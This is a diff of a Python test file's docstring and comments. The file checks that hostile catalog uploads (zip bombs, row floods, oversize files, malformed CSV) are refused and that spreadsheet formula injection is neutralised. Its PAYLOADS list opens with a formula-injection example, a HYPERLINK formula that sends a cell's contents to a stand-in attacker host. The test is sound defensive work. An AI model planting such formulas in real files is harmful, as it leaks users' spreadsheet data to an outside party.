@@ -1,6 +1,7 @@
-"""Hostile catalog files: a zip bomb, too many rows (declared or not), an oversize upload, a malformed CSV. Each is
-refused before it is parsed, with a message naming the limit, the same on the page, the API and the command;
-nothing is written. And formula injection: imported text that a spreadsheet would run comes back as text."""
+"""Hostile catalog files: a zip bomb, too many rows (declared or not), an oversize upload, a malformed CSV.
+Each is refused before it is parsed, with a message naming the limit, the same on the page, the API and the
+command; nothing is written. And formula injection: imported text that a spreadsheet would run comes back as
+text."""
 
 from __future__ import annotations
 
@@ -126,7 +127,8 @@ def test_a_malformed_csv_cell_is_a_clear_refusal(cast, client_for):
     assert response.status_code == 400 and "cannot be read" in str(response.json())
 
 
-# --- formula injection --------------------------------------------------------------------------------------------
+# --- formula injection
+# --------------------------------------------------------------------------------------------
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
